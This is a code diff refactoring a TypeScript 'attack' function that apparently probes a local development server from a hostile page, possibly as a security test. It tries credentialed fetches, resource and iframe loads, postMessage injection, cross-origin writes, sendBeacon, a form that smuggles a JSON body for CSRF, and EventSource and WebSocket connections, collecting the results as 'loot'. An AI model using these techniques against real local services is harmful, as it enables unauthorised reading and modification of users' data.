@@ -15,102 +15,86 @@ export interface Victim {
  * @returns what it could read, a line each
  */
 export async function attack({ origin, reads, update, bodies }: Victim): Promise<string[]> {
+  const TIMEOUT_MS = 3_000;
   const loot: string[] = [];
-  const within = <T>(promise: Promise<T>) =>
-    Promise.race([promise, new Promise<undefined>((done) => setTimeout(done, 3_000))]).catch(() => undefined);
-  const read = async (way: string, url: string, init?: RequestInit) => {
-    const response = await within(fetch(url, init));
-    const text = response && (await within(response.text()));
-    if (text) loot.push(`${way} ${url}: ${response.status} ${text.slice(0, 60)}`);
+  const request = async (way: string, url: string, init: RequestInit) => {
+    try {
+      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(TIMEOUT_MS) });
+      const text = await response.text();
+      if (text) loot.push(`${way} ${url}: ${response.status} ${text.slice(0, 60)}`);
+    } catch {
+      // Refused, or not in time.
+    }
   };
-  const show = async (tag: string, attributes: Record<string, string>) => {
-    const element = document.createElement(tag);
-    const arrived = new Promise<boolean>((done) => {
-      element.onload = () => done(true);
-      element.onerror = () => done(false);
+  /** Resolves with the first of these events; undefined if none comes in time. */
+  const first = (target: EventTarget, ...types: string[]) =>
+    new Promise<string | undefined>((done) => {
+      for (const type of types) target.addEventListener(type, () => done(type));
+      setTimeout(done, TIMEOUT_MS);
     });
+  const add = <T extends keyof HTMLElementTagNameMap>(tag: T, attributes: Record<string, string>) => {
+    const element = document.createElement(tag);
     for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
     document.body.append(element);
-    return { element, hasArrived: await within(arrived) };
+    return element;
+  };
+  const load = async (tag: 'img' | 'script' | 'link' | 'video', attributes: Record<string, string>) => {
+    const event = await first(add(tag, attributes), 'load', 'loadeddata', 'error');
+    if (event && event !== 'error') loot.push(`<${tag}> ${Object.values(attributes).join(' ')}`);
+  };
+  /** What it shows is looked at from outside. */
+  const frame = async (src: string) => {
+    const element = add('iframe', { src });
+    await first(element, 'load');
+    element.contentWindow?.postMessage({ type: 'edit:show', text: 'Hostile' }, '*');
+  };
+  /** Posts a form. Name, `=` and value of its field are JSON together. */
+  const post = async (body: string) => {
+    const target = add('iframe', { name: 'posted' });
+    const form = add('form', { method: 'post', action: update, target: 'posted', enctype: 'text/plain' });
+    const field = document.createElement('input');
+    field.name = `${body.slice(0, -1)},"x":"`;
+    field.value = '"}';
+    form.append(field);
+    form.submit();
+    await first(target, 'load');
+    target.remove();
   };
 
-  for (const url of reads) {
+  for (const url of reads)
     await Promise.all([
-      read('fetch', url),
-      read('fetch with credentials', url, { credentials: 'include' }),
-      read('fetch without CORS', url, { mode: 'no-cors' }),
-      read('fetch with a header', url, { headers: { 'x-edit-token': 'A', 'no-cors': '1' } }),
-    ]);
-    const load = async (tag: string, attributes: Record<string, string>) => {
-      if ((await show(tag, attributes)).hasArrived) loot.push(`<${tag}> ${url}`);
-    };
-    const frame = async () => {
-      const { contentDocument, contentWindow } = (await show('iframe', { src: url, name: 'victim' }))
-        .element as HTMLIFrameElement;
-      if (contentDocument?.body.textContent) loot.push(`frame ${url}`);
-      contentWindow?.postMessage({ type: 'edit:show', text: 'Hostile' }, '*');
-    };
-    await Promise.all([
+      request('fetch', url, {}),
+      request('fetch with credentials', url, { credentials: 'include' }),
+      request('fetch with a header', url, { headers: { 'x-edit-token': 'A', 'no-cors': '1' } }),
       load('img', { src: url }),
       load('script', { src: url }),
       load('script', { src: url, type: 'module' }),
       load('link', { href: url, rel: 'stylesheet' }),
       load('video', { src: url }),
-      frame(),
+      frame(url),
     ]);
-  }
 
   for (const body of bodies) {
-    const types = ['text/plain', 'application/json', 'application/x-www-form-urlencoded', undefined];
-    for (const mode of ['cors', 'no-cors'] as const) {
-      const send = (type: string | undefined) =>
-        read('write', update, {
-          method: 'POST',
-          mode,
-          body: new Blob([body]),
-          ...(type && { headers: { 'content-type': type } }),
-        });
-      await Promise.all(types.map(send));
-    }
-    await Promise.all(['PUT', 'DELETE', 'PATCH'].map((method) => read(method, update, { method, body })));
+    const types = ['text/plain', 'application/json', 'application/x-www-form-urlencoded', ''];
+    const writes = types.flatMap((type) =>
+      (['cors', 'no-cors'] as const).map((mode) => ({
+        method: 'POST',
+        mode,
+        body: new Blob([body], { type }),
+      })),
+    );
+    await Promise.all([
+      ...writes.map((init) => request('write', update, init)),
+      ...['PUT', 'DELETE', 'PATCH'].map((method) => request('write', update, { method, body })),
+    ]);
     navigator.sendBeacon(update, body);
-    navigator.sendBeacon(update, new Blob([body], { type: 'text/plain' }));
-
-    // A form posts `text` and `=` and the value of its field: together they are JSON.
-    const form = document.createElement('form');
-    Object.assign(form, { method: 'post', action: update, target: 'posted', enctype: 'text/plain' });
-    const field = document.createElement('input');
-    field.name = `${body.slice(0, -1)},"x":"`;
-    field.value = '"}';
-    form.append(field);
-    document.body.append(form);
-    const { element } = await show('iframe', { name: 'posted' });
-    const answered = new Promise((done) => {
-      element.onload = done;
-    });
-    form.submit();
-    await within(answered);
-    element.remove();
+    await post(body);
   }
 
   const stream = new EventSource(`${origin}/state`);
   const socket = new WebSocket(`${origin.replace('http', 'ws')}/?token=A`, 'vite-hmr');
-  const [event, opened] = await Promise.all([
-    within(
-      new Promise<string | undefined>((done) => {
-        stream.onmessage = ({ data }) => done(String(data));
-        stream.onerror = () => done(undefined);
-      }),
-    ),
-    within(
-      new Promise<string | undefined>((done) => {
-        socket.onopen = () => done('open');
-        socket.onerror = () => done(undefined);
-      }),
-    ),
-  ]);
-  if (event) loot.push(`events ${event}`);
-  if (opened) loot.push('socket');
+  if ((await first(stream, 'message', 'error')) === 'message') loot.push('events');
+  if ((await first(socket, 'open', 'error')) === 'open') loot.push('socket');
   stream.close();
   socket.close();
   return loot;
